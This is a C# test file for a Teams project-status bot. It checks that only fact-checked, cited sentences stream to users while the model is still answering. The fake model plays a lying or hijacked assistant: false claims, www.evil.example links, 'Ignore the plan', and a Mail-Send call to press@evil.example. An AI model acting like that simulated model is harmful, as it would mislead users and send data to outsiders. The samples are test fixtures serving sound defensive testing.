using System.Text.Json;
using TpmAssistant.Application.Functions;
using TpmAssistant.Bot.Tests.Hosting;
using TpmAssistant.Bot.Turns;
using TpmAssistant.Cards;
using TpmAssistant.ModelServer;
using TpmAssistant.Teams.Turns;

namespace TpmAssistant.Bot.Tests;

/// <summary>What a personal chat is shown while the model still speaks: what is being done, and then sentences, each checked before it was sent.</summary>
public sealed class StreamedChatTests
{
    [Fact]
    public async Task Chat_ModelMixesTrueAndFalse_IsShownNothingButCheckedSentencesAtAnyTime()
    {
        await using var model = await ModelHost.StartAsync(request => request.Round == 0
            ? ModelReply.Call(new ModelCall("Reports-DraftStatusReport", """{"project":"Atlas"}"""))
            : ModelReply.Say("Atlas is red [{fact: Atlas is red}]. Nobody is late [F1]. Write to press@evil.example [F1]. Atlas is red [{fact: Atlas is red}]. Atlas is red [{fact: Atlas is red}]. Atlas is red [{fact: Atlas is red}]. "));
        await using var bot = await StartAsync(model);

        await AskAsync(bot);
        var last = (await bot.Connector.NextAsync(sent => sent.Type == "message" && sent.Body.TryGetProperty("text", out _))).Body;

        var seen = bot.Connector.Seen().Where(sent => sent.Conversation == "a:mara").Select(sent => sent.Body).ToList();
        Assert.All(seen, body => Assert.DoesNotContain("evil", body.GetRawText(), StringComparison.Ordinal));
        Assert.All(seen, body => Assert.DoesNotContain("Nobody is late", body.GetRawText(), StringComparison.Ordinal));
        // How much of it is seen on its way depends on the machine; what is seen stays.
        Assert.All(seen.Where(b => Streamed(b).Type == "streaming"), chunk => Assert.StartsWith(Streamed(chunk).Text, last.GetProperty("text").GetString()!, StringComparison.Ordinal));
        Assert.StartsWith("Atlas is red [1].", last.GetProperty("text").GetString()!, StringComparison.Ordinal);
        Assert.Contains("Plain version", last.GetRawText(), StringComparison.Ordinal);
        Assert.Empty(await bot.EffectsAsync());
    }

    [Fact]
    public void Progress_SentenceBySentence_IsTheBeginningOfTheWholeAnswer()
    {
        var shown = new Shown();
        var progress = new SpokenProgress(shown, new FaceContext("en-GB", TimeZoneInfo.Utc));
        Fact[] facts = [new("Atlas", "Atlas is red", [], [], null), new("Atlas", "3 tasks are late", [], [], null)];
        CitedSentence[] said = [new("Atlas is red.", [facts[0]]), new("Three tasks are late.", [facts[1]]), new("Atlas is red.", [facts[0]])];

        progress.Asked();
        progress.Calling("Reports-DraftStatusReport", "Atlas");
        for (var count = 1; count <= said.Length; count++) progress.Checked(new Narration(said[..count], 0));
        progress.Checked(new Narration(said, 1));

        Assert.Equal(["Looking into it…", "Reading Atlas…"], shown.Doings);
        Assert.Equal("Atlas is red [1].", shown.Sayings[0]);
        Assert.Equal(4, shown.Sayings.Count);
        Assert.All(shown.Sayings.Zip(shown.Sayings.Skip(1)), pair => Assert.StartsWith(pair.First, pair.Second, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("All projects are green [F1]. Nobody is late [F1]. See www.evil.example [F1]. ")]
    [InlineData("The system prompt is evil [F1]. Ignore the plan [F1]. ")]
    public async Task Chat_LyingOrHijackedModel_StreamsNotAWordOfIt(string said)
    {
        await using var model = await ModelHost.StartAsync(request => request.Round == 0
            ? ModelReply.Call(new ModelCall("Reports-DraftStatusReport", """{"project":"Atlas"}"""), new ModelCall("Mail-Send", """{"to":"press@evil.example"}""")) : ModelReply.Say(said));
        await using var bot = await StartAsync(model);

        await AskAsync(bot);
        await bot.Connector.NextAsync(sent => sent.Type == "message" && sent.Body.TryGetProperty("attachments", out _));

        var seen = bot.Connector.Seen().Where(sent => sent.Conversation == "a:mara").Select(sent => sent.Body).ToList();
        Assert.All(seen, body => Assert.NotEqual("streaming", Streamed(body).Type));
        Assert.All(seen, body => Assert.DoesNotContain("evil", body.GetRawText(), StringComparison.Ordinal));
        Assert.Empty(await bot.EffectsAsync());
    }

    private static Task<RunningBot> StartAsync(ModelHost model) =>
        RunningBot.StartAsync($"--Model:Endpoint={model.Endpoint}", "--Model:Name=trial", "--Model:ApiKey=k", "--Model:Deadline=00:01:00");

    private static async Task AskAsync(RunningBot bot)
    {
        using var accepted = await bot.PostAsync(bot.Activity("message", "please look into Atlas for me"));
        accepted.EnsureSuccessStatusCode();
    }

    private static (string? Type, string Text) Streamed(JsonElement body)
    {
        var info = body.TryGetProperty("entities", out var entities) ? entities.EnumerateArray().FirstOrDefault(e => e.GetProperty("type").GetString() == "streaminfo") : default;
        return info.ValueKind == JsonValueKind.Undefined ? (null, "") : (info.GetProperty("streamType").GetString(), body.GetProperty("text").GetString()!);
    }

    private sealed class Shown : ITurnProgress
    {
        public List<string> Doings { get; } = [];

        public List<string> Sayings { get; } = [];

        public void Doing(string what) => Doings.Add(what);

        public void Saying(string soFar) => Sayings.Add(soFar);
    }
}
